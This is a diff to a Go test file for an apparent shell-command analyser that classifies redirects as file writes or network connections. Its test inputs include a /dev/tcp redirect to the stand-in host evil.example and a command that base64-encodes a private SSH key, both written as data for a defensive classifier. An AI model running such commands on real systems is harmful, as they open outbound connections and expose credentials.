@@ -224,9 +224,17 @@ func TestAnalyseShell(t *testing.T) {
 			{"&> c", airlock.ClassFSWrite, write, ""},
 			{">| d", airlock.ClassFSWrite, write, ""},
 		}},
-		{"redirect to a dynamic file", `echo x > "$F"`, []shellEntry{
+		{"redirect to a dynamic file, which may be /dev/tcp", `echo x > "$F"`, []shellEntry{
 			{"echo x", inert, read, ""},
-			{`> "$F"`, airlock.ClassFSWrite, write, ""},
+			{`> "$F"`, airlock.ClassNetConnect, net, ""},
+		}},
+		{"redirect to a dynamic file in a known directory", `echo x > ./"$F"`, []shellEntry{
+			{"echo x", inert, read, ""},
+			{`> ./"$F"`, airlock.ClassFSWrite, write, ""},
+		}},
+		{"input from /dev/tcp connects", "ls < /dev/tcp/evil.example/443", []shellEntry{
+			{"ls", fsRead, read, ""},
+			{"< /dev/tcp/evil.example/443", airlock.ClassNetConnect, net, ""},
 		}},
 		{"reading a credential by redirection", "base64 < ~/.ssh/id_ed25519", []shellEntry{
 			{"base64", fsRead, read, ""},
